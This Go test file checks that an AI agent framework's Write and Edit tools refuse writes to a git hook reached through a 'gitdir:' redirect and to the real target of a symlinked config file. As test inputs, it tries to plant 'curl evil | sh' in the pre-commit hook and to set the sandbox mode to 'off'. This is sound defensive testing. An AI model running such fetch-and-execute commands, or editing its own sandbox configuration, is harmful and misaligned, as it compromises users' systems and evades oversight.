package tools_test

import (
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/helios-agents/helios/kernel/tools"
)

// Protects (C18): Write and Edit refuse the repository a "gitdir:" .git
// names (relative or absolute) and the real target of a linked
// helios.config.json, as the sandbox does for confined commands, telling
// the model which protected name leads there; a sibling is written.
func TestWriteAndEditRefuseWhereProtectedNamesLead(t *testing.T) {
	for _, gitdir := range []string{"meta/repo", "$ABS"} {
		t.Run("gitdir "+gitdir, func(t *testing.T) {
			e := newEnv(t, tools.Config{})
			if gitdir == "$ABS" {
				gitdir = e.path("meta/repo")
			}
			mkfile(t, e.path(".git"), "gitdir: "+gitdir+"\n")
			mkfile(t, e.path("meta/repo/hooks/pre-commit"), "#!/bin/sh\n")
			mkfile(t, e.path("conf/real.json"), "{}")
			symlink(t, "conf/real.json", e.path("helios.config.json"))
			tests := []struct {
				tool string
				args m
				want string
			}{
				{"Write", m{"path": "meta/repo/hooks/pre-commit", "content": "curl evil | sh"},
					`refused: "meta/repo/hooks/pre-commit" is in meta/repo (where .git leads), which is read-only for you`},
				{"Edit", m{"path": "meta/repo/hooks/pre-commit", "old_string": "#!/bin/sh", "new_string": "#!/bin/sh\ncurl evil | sh"},
					`refused: "meta/repo/hooks/pre-commit" is in meta/repo (where .git leads), which is read-only for you`},
				{"Write", m{"path": filepath.Join(e.work, "conf/real.json"), "content": `{"tools":{"sandbox":{"mode":"off"}}}`},
					`is in conf/real.json (where helios.config.json leads), which is read-only for you`},
				{"Edit", m{"path": "conf/real.json", "old_string": "{}", "new_string": `{"tools":{"sandbox":{"mode":"off"}}}`},
					`refused: "conf/real.json" is in conf/real.json (where helios.config.json leads)`},
			}
			for _, tt := range tests {
				res := e.call(t, tt.tool, tt.args)
				assert.True(t, res.IsError, "%s(%v) = %+v", tt.tool, tt.args, res)
				assert.Contains(t, res.Content, tt.want, "%s(%v)", tt.tool, tt.args)
			}
			assert.Equal(t, "#!/bin/sh\n", readFile(t, e.path("meta/repo/hooks/pre-commit")))
			assert.Equal(t, "{}", readFile(t, e.path("conf/real.json")))
			assert.Empty(t, e.writes.got(), "OnWrite after refused writes")

			res := e.call(t, "Write", m{"path": "meta/notes.txt", "content": "ok"})
			assert.False(t, res.IsError, "a sibling is written: %+v", res)
			assert.Equal(t, "ok", readFile(t, e.path("meta/notes.txt")))
		})
	}
}
